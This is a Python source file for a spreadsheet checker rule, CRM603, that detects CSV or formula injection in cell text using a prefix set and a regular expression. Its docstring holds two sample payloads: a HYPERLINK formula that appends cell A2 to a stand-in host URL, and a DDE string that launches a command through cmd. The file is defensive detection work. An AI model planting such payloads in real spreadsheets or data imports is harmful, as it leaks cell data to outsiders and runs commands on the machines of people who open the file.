"""Text that a spreadsheet would run as a formula.

**What** A cell holds text, not a formula, that begins with = (or full-width ＝), or with +, - or @ and the name of a
function, a tab or a line break before it or not. Phone numbers such as +44..., negative numbers and notes that begin
with a dash are no formulas.

**Why** Such text comes from web forms and imports. In this cell it is harmless; once the book is saved as CSV and
opened again, it runs: it can send cells to a stranger (OWASP, CSV Injection).

**Bad** `=HYPERLINK("http://x.example?"&A2,"click")` as a company's name; `@SUM(1+9)*cmd|' /C calc'!A0`.

**Good** The name without the sign, or the row removed.

**crmsheet** It names the cell and leaves it: whoever wrote it there may mean it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

import numpy as np
import numpy.typing as npt
import pyarrow as pa
import pyarrow.compute as pc

from crmsheet.check.rule import Hit, Rule
from crmsheet.core.book import Table
from crmsheet.core.context import Context
from crmsheet.core.findings import Severity
from crmsheet.core.messages import N_
from crmsheet.core.rules import RuleCard
from crmsheet.core.schema import TableSchema

_FIRST = frozenset("=＝+＋-－@＠\t\r\n")
_FORMULA = re.compile(r"[\t\r\n]*(?:[=＝]\s*[-+(A-Za-z0-9\"'$@]|[+＋\-－@＠][^\s]{0,40}?[A-Za-z][A-Za-z0-9._]*[(|!])")

_TEXT = N_("the text {value} would run as a formula once saved as CSV; remove the first character or the row")


def is_formula_text(text: str) -> bool:
    """Whether a text would run as a formula if it were typed into a cell."""
    return text[:1] in _FIRST and _FORMULA.match(text) is not None


def _scan(table: Table, schema: TableSchema, context: Context) -> Iterator[Hit]:  # noqa: ARG001  (the form of a scan)
    for letters in map(str, table.cells.columns):
        rows = table.cells.index
        cells = table.cells[letters].to_numpy(dtype=object)
        for at in _suspects(cells):
            if is_formula_text(cells[at]):
                yield Hit(int(rows[at]), letters, cells[at], _TEXT)


def _suspects(cells: npt.NDArray[np.object_]) -> Sequence[int]:
    """Places of texts with such a first character; a column that is text as a whole is looked at by Arrow."""
    try:
        texts = pa.array(cells, pa.large_string())
    except (pa.ArrowInvalid, pa.ArrowTypeError, UnicodeEncodeError):
        return [at for at, cell in enumerate(cells.tolist()) if type(cell) is str and cell[:1] in _FIRST]
    first = pc.is_in(pc.utf8_slice_codeunits(texts, 0, 1), pa.array(sorted(_FIRST), pa.large_string()))
    return np.flatnonzero(first.to_numpy(zero_copy_only=False)).tolist()


RULE = Rule(RuleCard("CRM603", Severity.warning, N_("Text that would run as a formula"), __doc__), scan=_scan)
